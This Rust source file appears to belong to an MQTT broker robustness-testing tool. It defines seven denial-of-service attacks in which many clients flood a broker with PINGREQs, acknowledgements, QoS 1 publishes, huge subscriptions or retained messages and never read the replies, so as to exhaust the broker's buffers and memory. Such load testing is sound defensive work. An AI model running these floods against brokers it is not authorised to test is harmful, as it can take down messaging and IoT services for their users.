//! Responses and messages that clients do not read.

use super::{SENT_BYTES_MAX, bounded, unfinished::last_words};
use crate::hostile::{
    attack::{Attack, AttackFn, AttackOutcome, Target},
    packets::{self, Publish, append_acknowledgement},
    peer::{Exchange, Pump},
};

pub const KINDS: &[Attack] = &[
    Attack {
        name: "unread-pingresp",
        about: "PINGREQs of 10 clients that read no PINGRESP",
        setup: bounded,
        prepare: |target| unread(target, packets::PINGREQ.repeat(32 * 1024)),
        in_short: true,
    },
    Attack {
        name: "unread-pubcomp",
        about: "PUBRELs of 10 clients that read no PUBCOMP",
        setup: bounded,
        prepare: |target| unread(target, acknowledgements(0x62)),
        in_short: false,
    },
    Attack {
        name: "unread-pubrel",
        about: "PUBRECs of 10 clients that read no PUBREL",
        setup: bounded,
        prepare: |target| unread(target, acknowledgements(0x50)),
        in_short: false,
    },
    Attack {
        name: "unread-puback",
        about: "QoS 1 PUBLISHes of 10 clients that read no PUBACK",
        setup: bounded,
        prepare: unread_pubacks,
        in_short: false,
    },
    Attack {
        name: "unread-suback",
        about: "SUBSCRIBEs of 10,000 filters each, of 10 clients that read no SUBACK",
        setup: bounded,
        prepare: unread_subacks,
        in_short: false,
    },
    Attack {
        name: "unread-messages",
        about: "messages of 10 KiB to 200 subscribers that read none",
        setup: bounded,
        prepare: unread_messages,
        in_short: false,
    },
    Attack {
        name: "unread-retained",
        about: "50 clients that subscribe to 5,000 retained messages of 10 KiB, and read none",
        setup: bounded,
        prepare: unread_retained,
        in_short: false,
    },
];

/// Ten clients that send these bytes repeatedly.
fn unread(target: &Target, bytes: Vec<u8>) -> Exchange<AttackFn> {
    let mut peers = Vec::new();
    for number in 0..10 {
        peers.push(target.join(&format!("unread-{number}"))?);
    }
    Ok(Box::new(move |target| {
        let pump = Pump {
            first: &[],
            again: &bytes,
            each_max: target.count(150 << 20, 20 << 20),
            total_max: SENT_BYTES_MAX,
            end: target.end(),
        };
        let sent = pump.run(&mut peers);
        let words = last_words(&mut peers[..1]);
        Ok(AttackOutcome::holding(format!("{} MB sent{words}", sent / 1_000_000), peers))
    }))
}

fn acknowledgements(first_byte: u8) -> Vec<u8> {
    let mut bytes = Vec::new();
    (1..=u16::MAX)
        .for_each(|identifier| append_acknowledgement(first_byte, identifier, &mut bytes));
    bytes
}

fn unread_pubacks(target: &Target) -> Exchange<AttackFn> {
    let mut bytes = Vec::new();
    for identifier in 1..=u16::MAX {
        Publish { topic: "u", qos: 1, identifier, ..Publish::default() }.append(&mut bytes);
    }
    unread(target, bytes)
}

fn unread_subacks(target: &Target) -> Exchange<AttackFn> {
    unread(target, packets::subscribe(1, 0, &vec!["u"; 10_000]))
}

fn unread_messages(target: &Target) -> Exchange<AttackFn> {
    let mut peers = Vec::new();
    for number in 0..200 {
        let mut peer = target.join(&format!("deaf-{number}"))?;
        peer.subscribe_all(1, &["news"])?;
        peers.push(peer);
    }
    let mut publisher = vec![target.join("publisher")?];
    let payload = vec![b'.'; 10 << 10];
    let mut bytes = Vec::new();
    for identifier in 1..=1_000 {
        let news =
            Publish { topic: "news", qos: 1, identifier, payload: &payload, ..Publish::default() };
        news.append(&mut bytes);
    }
    Ok(Box::new(move |target| {
        let pump = Pump {
            first: &[],
            again: &bytes,
            each_max: 200 << 20,
            total_max: SENT_BYTES_MAX,
            end: target.end(),
        };
        let sent = pump.run(&mut publisher);
        let words = last_words(&mut publisher);
        peers.append(&mut publisher);
        Ok(AttackOutcome::holding(format!("{} MB sent{words}", sent / 1_000_000), peers))
    }))
}

fn unread_retained(target: &Target) -> Exchange<AttackFn> {
    let mut publisher = target.join("publisher")?;
    let payload = vec![b'.'; 10 << 10];
    for first in (0..5_000).step_by(100) {
        let mut bytes = Vec::new();
        for number in first..first + 100 {
            let topic = format!("kept/{number}");
            Publish { topic: &topic, retain: true, payload: &payload, ..Publish::default() }
                .append(&mut bytes);
        }
        publisher.send(&bytes)?;
    }
    publisher.settle()?;
    Ok(Box::new(move |target| {
        let mut peers = vec![publisher];
        for number in 0..50 {
            let mut peer = target.join(&format!("deaf-{number}"))?;
            peer.send(&packets::subscribe(1, 1, &["kept/#"]))?;
            peers.push(peer);
        }
        std::thread::sleep(target.span);
        Ok(AttackOutcome::holding(format!("{} subscribed", peers.len() - 1), peers))
    }))
}
